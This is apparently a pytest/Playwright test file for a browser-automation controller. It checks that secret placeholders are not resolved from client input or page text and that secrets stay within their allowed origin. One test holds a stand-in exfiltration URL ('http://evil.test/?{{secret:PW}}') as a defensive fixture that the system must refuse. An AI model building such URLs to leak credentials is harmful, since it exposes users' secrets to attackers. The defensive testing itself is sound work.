"""What a client types, and what its pages say, is taken as it is: neither refers to a secret of the run."""

from __future__ import annotations

import asyncio
from pathlib import Path

import pytest
from playwright.async_api import Error

from control.errors import SecretRefused
from control.protocol import commands as c
from control.protocol import events as e
from control.protocol.actions import Action
from control.protocol.models import Source, StepStatus
from tests.runner.attach.attached import ADA, Person, attached

pytestmark = pytest.mark.browser

WORDS = "{{secret:PW}} {{secret:AWS_SECRET_ACCESS_KEY}}"
PAGE = f"""<title>Shop</title><label>Name <input></label><button>{WORDS}</button>
<button onclick="document.title = 'bought'">Buy</button>"""
PASSWORD = "hunter2"


async def test_a_held_call_is_done_with_the_clients_own_words(tmp_path: Path) -> None:
    async with attached(tmp_path, secrets={"PW": PASSWORD}) as client:
        _, page, run = await client.open()
        await page.set_content(PAGE)
        person = Person(run)
        await person.send(c.Pause())
        typed = asyncio.ensure_future(page.get_by_label("Name").fill(WORDS))
        await person.sees_proposal()
        await person.send(c.Resume())
        await typed
        assert await page.get_by_label("Name").input_value() == WORDS
        await person.sees_step_end("passed")
        text = await run.export("pytest")
        assert "os.environ[" not in text
        assert "AWS_SECRET_ACCESS_KEY" in text


async def test_a_repaired_locator_of_such_an_element_is_no_reference_in_the_patch(tmp_path: Path) -> None:
    async with attached(tmp_path, secrets={"PW": PASSWORD}) as client:
        _, page, run = await client.open()
        await page.set_content(PAGE)
        person = Person(run)

        async def press() -> None:
            await page.get_by_role("button", name="Nothing").click(timeout=300)

        call = asyncio.ensure_future(press())
        await person.sees(e.HelpNeeded)
        box = await page.get_by_role("button", name=WORDS).bounding_box()
        assert box is not None
        picked = await run.submit(c.Pick(x=box["x"] + 3, y=box["y"] + 3), ADA)
        assert isinstance(picked, e.Picked)
        await person.send(c.StepOverride(action=Action.model_validate({"type": "click", "selector": picked.selector})))
        await call
        while (await person.sees_step_end("passed")).source is not Source.OVERRIDE:
            pass
        assert run.client_run.steps[-1].status is StepStatus.PASSED
        for format in ("pytest", "patch", "yaml"):
            text = await run.export(format)
            assert "os.environ[" not in text
            assert "${AWS" not in text
            assert "{{secret:" in text or "{{braces}}secret:" in text


async def test_a_secret_is_not_put_into_a_clients_call_where_it_does_not_belong(tmp_path: Path) -> None:
    secrets = {"PW": {"value": PASSWORD, "origins": ["https://shop.test"]}}
    async with attached(tmp_path, secrets=secrets) as client:
        _, page, run = await client.open()
        person = Person(run)
        await person.send(c.Pause())
        typed = asyncio.ensure_future(page.get_by_label("Name").fill("Ada"))
        await person.sees_proposal()
        secret = Action.model_validate({"type": "type", "selector": "input >> nth=0", "value": "{{secret:PW}}"})
        away = Action.model_validate({"type": "navigate", "value": "http://evil.test/?{{secret:PW}}"})
        with pytest.raises(SecretRefused):
            await person.send(c.StepOverride(action=away))
        await person.send(c.StepOverride(action=secret))
        await person.send(c.Resume())
        needed: e.HelpNeeded = await person.sees(e.HelpNeeded)
        assert "the secret may be filled in at https://shop.test only" in needed.reason
        assert await page.get_by_label("Name").input_value() == ""
        await person.send(c.Cancel())
        with pytest.raises(Error, match="the run was cancelled"):
            await typed
